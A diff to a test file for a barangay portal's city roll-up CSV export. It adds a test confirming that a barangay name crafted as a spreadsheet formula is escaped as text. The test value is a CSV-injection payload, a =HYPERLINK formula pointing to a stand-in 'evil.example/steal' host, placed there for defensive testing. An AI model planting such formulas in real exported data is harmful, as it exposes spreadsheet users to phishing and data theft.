@@ -208,7 +208,7 @@ describe('with the default barangay at its own host', () => {
     expect(csv.status).toBe(200);
     expect(csv.headers['content-type']).toMatch(/^text\/csv/);
     expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="?barangay-rollup-\d{4}-\d{2}-\d{2}\.csv"?$/);
-    const rows: string[][] = parse(csv.body);
+    const rows: string[][] = parse(csv.body, { bom: true });
     expect(rows[0]).toEqual(['PSGC code', 'Barangay', 'Residents', 'Open requests', 'Overdue requests', 'Ready requests', 'Ready on time',
       'Processing-time compliance (%)', 'ID verifications waiting']);
     expect(rows[1]).toEqual(['137501176', 'Barangay 176', '0', '0', '0', '0', '0', '', '0']);
@@ -277,6 +277,20 @@ describe('with the default barangay at its own host', () => {
     expect(await hostRows()).toEqual([
       { host: NEW_HOST, barangay_id: id }, { host: 'barangay176.example.ph', barangay_id: id }, { host: DEFAULT_HOST, barangay_id: 1 },
     ]);
+  });
+
+  it("writes a barangay's formula-looking name into the roll-up CSV as text, as every spreadsheet the portal writes", async () => {
+    const name = '=HYPERLINK("http://evil.example/steal","Barangay 177")';
+    const made = await graphqlAt(server, DEFAULT_HOST, CREATE, { input: newBarangay({
+      name, psgcCode: null, referencePrefix: 'b177', hostNames: ['barangay177.example.ph'],
+      punongBarangay: { email: 'kapitan@barangay177.example.ph', firstName: 'Rey', lastName: 'Santos' },
+    }) }, city.access);
+    expect(made.errors).toBeUndefined();
+    const csv = await requestAt(server, DEFAULT_HOST, '/api/city/rollup.csv', { headers: { authorization: `Bearer ${city.access}` } });
+    expect(csv.status).toBe(200);
+    const rows: string[][] = parse(csv.body, { bom: true });
+    expect(rows.filter((row) => row[1].includes('HYPERLINK'))).toEqual([['', `'${name}`, '0', '0', '0', '0', '0', '', '0']]);
+    expect(csv.body).not.toMatch(/(^|[\r\n,])"?=HYPERLINK/);
   });
 });
 
